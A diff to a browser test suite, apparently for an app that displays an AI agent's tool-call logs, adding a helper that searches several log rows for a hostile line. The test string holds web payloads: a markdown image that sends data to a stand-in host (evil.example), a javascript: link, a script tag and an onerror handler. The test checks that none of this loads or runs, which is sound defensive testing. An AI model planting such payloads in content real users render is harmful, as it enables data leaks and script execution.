@@ -195,6 +195,13 @@ test('a change of a file is rolled back as one more approved call', () =>
     assert.equal(messages.filter((message) => message.toolCalls?.some((call) => call.name === 'restore_file')).length, 1);
   }));
 
+/** Of the searches, once so many are there. */
+async function spanRows(page, count) {
+  const rows = page.getByRole('row', { name: /search_logs/ });
+  await rows.nth(count - 1).waitFor();
+  return rows.all();
+}
+
 test('what a log line says is shown, and nothing of it is loaded or run', () =>
   visit(browser, installation, { name: 'hostile-log' }, async (page) => {
     const msg = '![leak](https://evil.example/p.png?leak=1) [open](javascript:globalThis.ran=1) <script>globalThis.ran=1</script> <img src="https://evil.example/i.png" onerror="globalThis.ran=1">';
@@ -212,7 +219,11 @@ test('what a log line says is shown, and nothing of it is loaded or run', () =>
     await harmless('in the thread');
     const { runs } = await installation.api(`/api/threads/${threadId(page)}`);
     await page.goto(`/runs/${runs[0].id}?q=search_logs&open=output`);
-    await page.getByRole('row', { name: /search_logs/ }).first().click();
+    // They ran beside one another: which row is the one with the line is not known.
+    for (const row of await spanRows(page, 3)) {
+      await row.click();
+      if (await page.getByText(/evil\.example\/p\.png/).first().waitFor({ timeout: 5000 }).then(() => true, () => false)) break;
+    }
     await harmless('in the trace');
   }));
 
